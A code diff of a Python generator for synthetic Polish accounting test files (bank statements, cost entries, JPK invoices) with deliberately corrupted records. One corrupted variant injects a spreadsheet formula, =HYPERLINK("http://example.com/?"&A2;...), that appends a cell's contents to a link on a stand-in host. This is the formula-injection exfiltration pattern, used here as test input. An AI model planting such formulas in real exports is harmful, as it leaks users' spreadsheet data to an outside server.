@@ -27,6 +27,7 @@ from sandbox.files.dropped_files import Batch, Dropped, batches, bring_up
 from sandbox.stand_in import StandIn
 from sandbox.white_list.api import bank_account
 from sandbox.world import Book, Entry, World, business, identifiers
+from sandbox.world.business import OUR_NIP
 from sandbox.world.spelling import abbreviated
 
 ACCESS_KEY, SECRET_KEY = "ONEFOLDSANDBOX", "sandbox-secret"
@@ -34,13 +35,15 @@ STATEMENT = 40  # payments in one bank statement, by their numbers
 LINES = int(os.environ.get("SANDBOX_ACCOUNTING_PAGE", "500"))  # entries in one workbook, invoices in one JPK file
 ACCOUNTS = ("401-01", "402-01", "402-02", "409-10", "411-01")
 COSTS = ("Energia elektryczna", "Usługi telekomunikacyjne", "Paliwo", "Materiały biurowe", "Czynsz", "Usługi prawne")
+OUR_ACCOUNTS = {"PLN": "61109010140000071219812874", "EUR": "27114020040000300201355387"}
 EXCEL_DAY_0 = date(1899, 12, 30)
 ENCODINGS = ("cp1250", "utf-8", "cp1250", "iso-8859-2", "cp1250", "utf-8-sig", "cp852", "utf-16")
 PACKED = ("", "", "", "", "", "", ".gz", ".zip")
 OPENINGS = ("- ", "-10% rabat, ", "% ", "@ ")
 """How a text may begin that is no formula."""
 BANK_COLUMNS = (
-    "nr_wyciagu", "lp", "data_ksiegowania", "kwota", "waluta", "kontrahent", "rachunek", "tytul", "opis",
+    "nr_wyciagu", "lp", "data_ksiegowania", "kwota", "waluta", "rachunek_wlasny", "kontrahent", "rachunek", "tytul",
+    "opis",
 )  # fmt: skip
 COST_COLUMNS = (
     "nr_dowodu", "data", "konto", "mpk", "nip_dostawcy", "dostawca", "opis", "netto", "vat", "brutto", "waluta",
@@ -57,19 +60,47 @@ BANK = Book(
     "accounting", "bank_line",
     size=lambda companies: business.orders(companies) * 3 // 4,
     number=lambda place: place // 3 * 4 + place % 3,
-    key=lambda n: (f"WB/{n // STATEMENT + 1:05d}", str(n % STATEMENT + 1)),
+    key=str, named=lambda seed, n, companies: _bank_key(business.order(seed, n, companies=companies)),
     exists=_paid_to_the_bank,
     broken=("amount_malformed", "currency_malformed", "date_impossible"), deletes=False,
 )  # fmt: skip
 COST = Book(
     "accounting", "account_entry", size=lambda companies: min(business.orders(companies) // 2, 5_000),
-    key=lambda n: f"KP/{n + 1:06d}", broken=("formula_in_text", "account_malformed", "amount_missing"), deletes=False,
+    key=str, named=lambda seed, n, companies: _cost_key(seed, n, companies),  # noqa: PLW0108 - it is defined below
+    broken=("formula_in_text", "net_malformed", "amount_missing"), deletes=False,
 )  # fmt: skip
 INVOICE = Book(
     "accounting", "jpk_invoice", size=business.orders, key=str,
-    named=lambda seed, n, companies: business.invoice(seed, n, companies=companies).reference,
-    broken=("currency_malformed", "type_unknown"), changes=False, deletes=False,
+    named=lambda seed, n, companies: (business.invoice(seed, n, companies=companies).reference, OUR_NIP, "VAT"),
+    broken=("currency_malformed", "total_malformed"), changes=False, deletes=False,
 )  # fmt: skip
+
+
+def _bank_key(of: business.Order) -> tuple[str, str, str]:
+    """Both of our accounts number their statements and lines by themselves; those in EUR count down here."""
+    place = of.number % STATEMENT
+    number = STATEMENT - place if of.currency == "EUR" else place + 1
+    return f"WB/{of.number // STATEMENT + 1:05d}", str(number), OUR_ACCOUNTS[of.currency]
+
+
+def _document(number: int) -> int:
+    """The cost document of an entry: every tenth is split over two accounts."""
+    return number - 1 if number % 10 == 9 else number
+
+
+def _supplier(seed: int, document: int, companies: int) -> int:
+    """One of the ERP's suppliers."""
+    return random.Random(f"{seed}:supplier:{document}").randrange(min(companies, max(60, companies // 6)))
+
+
+def _cost_key(seed: int, number: int, companies: int) -> tuple[str, str, str, str]:
+    """The document's number, which two suppliers may have chosen alike, its supplier, account and cost centre."""
+    document = _document(number)
+    rng = random.Random(f"{seed}:account:{document}")
+    account = rng.randrange(len(ACCOUNTS)) + number - document
+    name = f"FV {document // 50 + 1}/2026" if document % 50 in (10, 20) else f"KP/{document + 1:06d}"
+    supplier = identifiers.nip(_supplier(seed, document, companies))
+    return name, supplier, ACCOUNTS[account % len(ACCOUNTS)], rng.choice(business.DEPARTMENTS)
 
 
 def _files(world: World) -> list[Dropped]:
@@ -128,13 +159,14 @@ def _line(world: World, entry: Entry, sequence: int) -> tuple[str, ...]:
     revision, payer = state[2], payment.invoice.order.company
     name = abbreviated(company(world.seed, payer).name, random.Random(entry.number).random()).upper()
     amount = f"{payment.amount:,.2f}".replace(",", "\u00a0" if entry.number % 2 else " ").replace(".", ",")
-    statement, place = entry.key
+    statement, place, account = entry.key
     return (
         str(statement),
         str(place),
         "31.02.2026" if entry.broken == "date_impossible" else f"{payment.day:%d.%m.%Y}",
         f"{amount[:-1]}O" if entry.broken == "amount_malformed" else amount,
         "zł" if entry.broken == "currency_malformed" else payment.invoice.order.currency,
+        str(account),
         name,
         bank_account(world.seed, payer, 0),
         payment.invoice.reference,
@@ -183,25 +215,24 @@ def _cost(world: World, entry: Entry, sequence: int) -> tuple[str | date | float
     state = entry.at(sequence)
     revision = state[2] if state else 1
     rng = random.Random(f"{world.seed}:cost:{entry.number}")
-    supplier = rng.randrange(min(world.base_size, max(60, world.base_size // 6)))  # the ERP's suppliers
+    document, tax_id, account, department = entry.key
     net = Decimal(rng.randrange(2_000, 900_000)) / 100 + revision - 1
     vat = (net * 23 / 100).quantize(business.CENT)
     what = rng.choice(COSTS)
     day = business.FIRST_DAY + timedelta(days=rng.randrange((business.LAST_DAY - business.FIRST_DAY).days))
-    account, department = rng.choice(ACCOUNTS), rng.choice(business.DEPARTMENTS)
     draw = crc32(str(entry.key).encode())
     due = day + timedelta(days=14)
     return (
-        str(entry.key),
+        str(document),
         day,
-        "koszty" if entry.broken == "account_malformed" else account,
-        department,
-        identifiers.nip(supplier),
-        company(world.seed, supplier).name,
+        str(account),
+        str(department),
+        str(tax_id),
+        company(world.seed, _supplier(world.seed, _document(entry.number), world.base_size)).name,
         f'=HYPERLINK("http://example.com/?"&A2;"{what}")'
         if entry.broken == "formula_in_text"
-        else _described(what, f"KP {entry.key}"),
-        float(net),
+        else _described(what, f"KP {document}"),
+        "sto złotych" if entry.broken == "net_malformed" else float(net),
         float(vat),
         "" if entry.broken == "amount_missing" else float(net + vat),
         "PLN",
